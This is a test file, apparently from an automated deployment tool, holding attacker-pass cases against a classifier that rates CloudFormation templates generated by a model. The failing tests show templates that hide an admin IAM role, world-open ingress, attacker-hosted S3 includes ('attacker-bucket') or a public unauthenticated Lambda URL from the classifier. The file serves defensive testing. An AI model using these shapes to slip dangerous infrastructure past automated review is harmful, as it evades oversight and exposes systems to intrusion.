@@ -1,0 +1,180 @@
+import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
+
+// Review #9 second attacker pass on the risk classifier: more shapes of the same access the first
+// pass's fixes do not read. Model output is untrusted (DESIGN §5b); a template that reads as low
+// is auto-merged and deployed on merge in hybrid and automated mode. "FAULT:" cases are
+// `it.failing`: they assert the right answer (high), which the code does not give yet.
+
+const TEMPLATE = 'services/orders-api/template.yaml';
+
+function levelOf(template: string): string {
+  return classifyRisk({
+    files: [{ path: TEMPLATE, content: template, role: 'template' }],
+    templatePath: TEMPLATE,
+    targetEnvironment: 'staging',
+    production: false,
+  }).level;
+}
+
+const template = (body: object) =>
+  JSON.stringify({ AWSTemplateFormatVersion: '2010-09-09', ...body }, null, 2);
+
+const queue = { Type: 'AWS::SQS::Queue', Properties: {} };
+
+describe('review #9b attacks: the risk classifier', () => {
+  it('control: an IAM role written out is high', () => {
+    expect(
+      levelOf(
+        template({
+          Resources: { Role: { Type: 'AWS::IAM::Role', Properties: { AssumeRolePolicyDocument: {} } } },
+        }),
+      ),
+    ).toBe('high');
+  });
+
+  // AWS::LanguageExtensions is on the known-transform list, and it adds Fn::ForEach: a Resources
+  // key `Fn::ForEach::<name>` whose value is a list is read as a resource with no Type and
+  // skipped, so the IAM role (admin, `*`) it expands to at deploy time is never judged.
+  it.failing('FAULT: an IAM role made by Fn::ForEach (AWS::LanguageExtensions) is high', () => {
+    expect(
+      levelOf(
+        template({
+          Transform: 'AWS::LanguageExtensions',
+          Resources: {
+            Queue: queue,
+            'Fn::ForEach::Roles': [
+              'Name',
+              ['Admin'],
+              {
+                'Role${Name}': {
+                  Type: 'AWS::IAM::Role',
+                  Properties: {
+                    AssumeRolePolicyDocument: {},
+                    Policies: [
+                      {
+                        PolicyName: 'all',
+                        PolicyDocument: { Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] },
+                      },
+                    ],
+                  },
+                },
+              },
+            ],
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
+
+  // The top-level Transform is judged, but an inline `Fn::Transform` (AWS::Include, or any macro)
+  // inside a resource's Properties pulls its content from S3 / a Lambda at deploy time.
+  it.failing(
+    'FAULT: a security group whose Properties come from an inline Fn::Transform AWS::Include is high',
+    () => {
+      expect(
+        levelOf(
+          template({
+            Resources: {
+              Sg: {
+                Type: 'AWS::EC2::SecurityGroup',
+                Properties: {
+                  'Fn::Transform': {
+                    Name: 'AWS::Include',
+                    Parameters: { Location: 's3://attacker-bucket/open-ingress.yaml' },
+                  },
+                },
+              },
+            },
+          }),
+        ),
+      ).toBe('high');
+    },
+  );
+
+  it.failing('FAULT: a resource pulled in whole by an inline Fn::Transform in Resources is high', () => {
+    expect(
+      levelOf(
+        template({
+          Resources: {
+            Queue: queue,
+            'Fn::Transform': {
+              Name: 'AWS::Include',
+              Parameters: { Location: 's3://attacker-bucket/admin-role.yaml' },
+            },
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
+
+  // Ingress from a managed prefix list the template fills with 0.0.0.0/0: only CidrIp/CidrIpv6 are read.
+  it.failing('FAULT: ingress from a prefix list holding 0.0.0.0/0 is high', () => {
+    expect(
+      levelOf(
+        template({
+          Resources: {
+            Everyone: {
+              Type: 'AWS::EC2::PrefixList',
+              Properties: {
+                PrefixListName: 'everyone',
+                AddressFamily: 'IPv4',
+                MaxEntries: 1,
+                Entries: [{ Cidr: '0.0.0.0/0' }],
+              },
+            },
+            Sg: {
+              Type: 'AWS::EC2::SecurityGroup',
+              Properties: {
+                GroupDescription: 'web',
+                SecurityGroupIngress: [{ IpProtocol: '-1', SourcePrefixListId: { Ref: 'Everyone' } }],
+              },
+            },
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
+
+  // The /8 bound is per rule: 128 rules of /8 are 0.0.0.0/1, the same split the first pass fixed.
+  it.failing('FAULT: half the IPv4 internet as 128 ingress rules of /8 is high', () => {
+    const rules = Array.from({ length: 128 }, (_, n) => ({
+      IpProtocol: 'tcp',
+      FromPort: 22,
+      ToPort: 22,
+      CidrIp: `${n}.0.0.0/8`,
+    }));
+    expect(
+      levelOf(
+        template({
+          Resources: {
+            Sg: {
+              Type: 'AWS::EC2::SecurityGroup',
+              Properties: { GroupDescription: 'ssh', SecurityGroupIngress: rules },
+            },
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
+
+  // A public, unauthenticated URL on an existing function (no function, so no role, in the
+  // template): AWS::Lambda::Url's AuthType NONE is not read (lambdaPermissionRisks reads
+  // FunctionUrlAuthType on AWS::Lambda::Permission only) — anyone on the internet invokes it.
+  it.failing('FAULT: an AWS::Lambda::Url with AuthType NONE on an existing function is high', () => {
+    expect(
+      levelOf(
+        template({
+          Resources: {
+            Url: {
+              Type: 'AWS::Lambda::Url',
+              Properties: {
+                AuthType: 'NONE',
+                TargetFunctionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:payments-admin',
+              },
+            },
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
+});
